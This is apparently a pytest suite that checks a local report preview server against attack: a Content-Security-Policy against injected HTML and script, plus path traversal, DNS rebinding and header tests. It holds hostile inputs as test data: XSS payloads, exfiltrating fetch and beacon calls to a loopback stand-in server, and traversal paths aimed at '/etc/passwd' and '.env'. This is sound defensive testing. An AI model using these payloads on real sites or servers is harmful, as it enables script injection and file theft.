"""The preview server gives the release and nothing else, and a page runs nothing that is not its own, seen by a real browser.

Not here: its plain answers (tests/reports/test_serve), and hostile text on pages (tests/reports/test_hostile).
"""

import shutil
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from reports.serve import HEADERS, Server
from reports.site import build
from tests.loopback import Loopback
from tests.reports.browsing import in_browser
from tests.reports.make_warehouse import make_warehouse

EVIL = """
<script>window.ran = "inline"</script>
<script src="{elsewhere}/evil.js"></script>
<script src="data:text/javascript,window.ran='data'"></script>
<img src="{elsewhere}/pixel.png" onerror="window.ran = 'handler'">
<img src="x" onerror="window.ran = 'handler'">
<svg onload="window.ran = 'svg'"><script>window.ran = "svg script"</script></svg>
<link rel="stylesheet" href="{elsewhere}/evil.css">
<link rel="prefetch" href="{elsewhere}/prefetch">
<style>@import url("{elsewhere}/import.css"); body {{ background: url("{elsewhere}/style.png"); }}</style>
<iframe src="{elsewhere}/frame"></iframe>
<iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
<object data="{elsewhere}/object"></object>
<embed src="{elsewhere}/embed">
<video src="{elsewhere}/video" autoplay></video>
<audio src="{elsewhere}/audio" autoplay></audio>
<form id="evil" action="{elsewhere}/form"><input name="a" value="b"></form>
<base href="{elsewhere}/">
<div id="styled" style="background: url('{elsewhere}/attribute.png'); position: fixed">x</div>
<a id="js" href="javascript:window.ran='link'">x</a>
"""


@dataclass
class Elsewhere:
    """A server that no page may ask."""

    url: str = ""
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    heard = Elsewhere()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"window.ran = 'external'")

    server = Loopback(Handler)
    heard.url = server.url
    yield heard
    server.close()


@pytest.fixture(scope="session")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build the front page, once: all that is broken into, for every page has the same head and script."""
    folder = tmp_path_factory.mktemp("preview")
    build(make_warehouse(folder / "warehouse.duckdb"), folder / "site", groups=["front"])
    return folder / "site"


@pytest.fixture
def site(built: Path, tmp_path: Path) -> Path:
    """Give a copy of the site, to be broken into."""
    return Path(shutil.copytree(built, tmp_path / "site"))


@pytest.fixture
def served(site: Path) -> Iterator[Server]:
    with Server(lambda: site, 0) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def _break_in(site: Path, elsewhere: Elsewhere) -> None:
    """Put into a page what its makers would never let through."""
    page = site / "index.html"
    text = page.read_text("utf-8")
    assert "</main>" in text
    page.write_text(
        text.replace("</main>", EVIL.format(elsewhere=elsewhere.url) + "</main>"), "utf-8"
    )


def _try_everything(page: Page) -> None:
    page.wait_for_load_state()
    page.evaluate("document.getElementById('js').click()")
    page.wait_for_timeout(300)


def _told(page: Page) -> str:
    """Ask without evaluating a text as code, which the policy forbids too: the browser's own tools are let through."""
    return str(page.evaluate("String(window.ran)"))


@pytest.mark.parametrize("is_served", [True, False], ids=["served", "opened as a file"])
class TestInABrowser:
    pytestmark = in_browser

    def test_what_is_injected_does_not_run_and_asks_nobody(
        self, browser: Browser, site: Path, served: Server, elsewhere: Elsewhere, is_served: bool
    ) -> None:
        _break_in(site, elsewhere)
        page = browser.new_page()
        heard: list[str] = []
        page.on("console", lambda message: heard.append(message.text))
        page.goto(served.address if is_served else (site / "index.html").as_uri())
        _try_everything(page)
        assert _told(page) == "undefined"
        styled = "getComputedStyle(document.getElementById('styled')).position"
        assert page.evaluate(styled) == "static"
        page.evaluate("document.getElementById('evil').submit()")
        time.sleep(0.3)  # a browser that waits for the page to leave would wait for ever
        assert elsewhere.asked == []
        assert any("Content Security Policy" in text for text in heard)
        page.close()

    def test_a_page_may_not_ask_or_evaluate_by_script(
        self, browser: Browser, site: Path, served: Server, elsewhere: Elsewhere, is_served: bool
    ) -> None:
        """What the page's own script could be tricked into."""
        script = site / "static" / "scorecard.js"
        url = elsewhere.url
        script.write_text(
            f"fetch('{url}/fetch').catch(() => {{}});"
            f"navigator.sendBeacon('{url}/beacon');"
            f"new Image().src = '{url}/image';"
            f"try {{ new WebSocket('{url.replace('http', 'ws')}/socket') }} catch (e) {{}};"
            f"try {{ new Worker('{url}/worker') }} catch (e) {{}};"
            "window.reached = true;"
            "try { eval('window.ran = 1') } catch (e) {};"
            "try { new Function('window.ran = 2')() } catch (e) {};"
            "try { setTimeout('window.ran = 3', 0) } catch (e) {};"
        )
        page = browser.new_page()
        page.goto(served.address if is_served else (site / "index.html").as_uri())
        page.wait_for_timeout(300)
        assert page.evaluate("window.reached") is True
        assert _told(page) == "undefined"
        assert elsewhere.asked == []
        page.close()


@pytest.mark.parametrize("_", [pytest.param(None, marks=in_browser)])
def test_without_the_policy_the_same_page_would_run_it(
    browser: Browser, site: Path, elsewhere: Elsewhere, _: None
) -> None:
    """The attack is one: what stops it is the policy, and nothing else."""
    _break_in(site, elsewhere)
    page = site / "index.html"
    page.write_text(page.read_text("utf-8").replace("Content-Security-Policy", "x-none"), "utf-8")
    opened = browser.new_page()
    opened.goto(page.as_uri())
    opened.wait_for_timeout(300)
    assert _told(opened) != "undefined"
    assert elsewhere.asked != []
    opened.close()


@pytest.mark.parametrize("_", [pytest.param(None, marks=in_browser)])
def test_no_other_page_may_frame_the_scorecard(
    browser: Browser, served: Server, elsewhere: Elsewhere, tmp_path: Path, _: None
) -> None:
    outer = tmp_path / "outer.html"
    outer.write_text(f"<iframe src='{served.address}'></iframe>")
    page = browser.new_page()
    page.goto(outer.as_uri())
    page.wait_for_timeout(300)
    assert page.frames[1].locator("main").count() == 0
    page.close()


# --- the server -------------------------------------------------------------------------------------------------------


def _say(server: Server, request: bytes) -> bytes:
    """Send bytes as they are: clients put addresses right before they send them."""
    with socket.create_connection(("127.0.0.1", server.server_port), timeout=5) as connection:
        connection.sendall(request)
        connection.shutdown(socket.SHUT_WR)
        return b"".join(iter(lambda: connection.recv(65536), b""))


PATHS = [
    "/../manifest.json", "/static/../../manifest.json", "/%2e%2e/manifest.json", "/..%2fmanifest.json", "/%2e%2e%2fmanifest.json",
    "/static/..%5c..%5cmanifest.json", "//manifest.json", "///etc/passwd", "/etc/passwd", "file:///etc/passwd", "http://127.0.0.1/../manifest.json",
    "/.%00./manifest.json", "/index.html/../../manifest.json", "/..;/manifest.json", "/%252e%252e/manifest.json", "/link.json", "/folder/manifest.json",
    "/hidden.duckdb", "/.env", "/static", "/" + "a" * 5000, "/" + "../" * 100 + "etc/hostname",
]  # fmt: skip


@pytest.mark.parametrize("path", PATHS, ids=[path[:40] for path in PATHS])
def test_nothing_but_the_site_is_served(served: Server, site: Path, path: str) -> None:
    (site.parent / "manifest.json").write_text('{"secret": "planted"}')
    (site / "hidden.duckdb").write_text("planted")
    (site / ".env").write_text("planted")
    (site / "link.json").symlink_to(site.parent / "manifest.json")
    (site / "folder").symlink_to(site.parent, target_is_directory=True)
    answer = _say(
        served, f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
    )
    assert answer.startswith(b"HTTP/1.0 404")
    assert b"planted" not in answer


HOSTS = [
    "evil.example", "localhost.evil.example", "127.0.0.1.evil.example", "evil.example:8321", "localhost@evil.example", "127.0.0.1:80@evil.example",
    "0.0.0.1", "2130706433", "[::]", "", "localhost evil.example", "LOCALHOST.", "127.0.0.1:8321:x",
]  # fmt: skip


@pytest.mark.parametrize("host", HOSTS)
def test_a_name_that_somebody_points_here_gets_nothing(served: Server, host: str) -> None:
    """DNS rebinding: a page elsewhere on the web has its own name lead to this machine."""
    answer = _say(served, f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.0 421")
    assert b"<html" not in answer


@pytest.mark.parametrize(
    "request_line",
    ["GET / HTTP/1.1", "GET /none HTTP/1.1", "HEAD / HTTP/1.1", "POST / HTTP/1.1", "DELETE /index.html HTTP/1.1", "OPTIONS / HTTP/1.1", "TRACE / HTTP/1.1", "CONNECT evil:1 HTTP/1.1"],
)  # fmt: skip
def test_every_answer_has_strict_headers(served: Server, request_line: str) -> None:
    answer = _say(
        served, f"{request_line}\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
    )
    head = answer.split(b"\r\n\r\n", 1)[0].decode()
    for name, value in HEADERS.items():
        assert f"{name}: {value}" in head
    assert "Access-Control-Allow-Origin" not in head
    assert "Set-Cookie" not in head


def test_the_server_cannot_be_reached_from_another_address(served: Server) -> None:
    """On loopback alone: the machine's other addresses do not answer."""
    own = {info[4][0] for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)}
    for address in own - {"127.0.0.1", "127.0.1.1"}:
        with pytest.raises(OSError, match=r"refused|unreachable|timed out"):
            socket.create_connection((address, served.server_port), timeout=2)
    assert served.server_address[0] == "127.0.0.1"
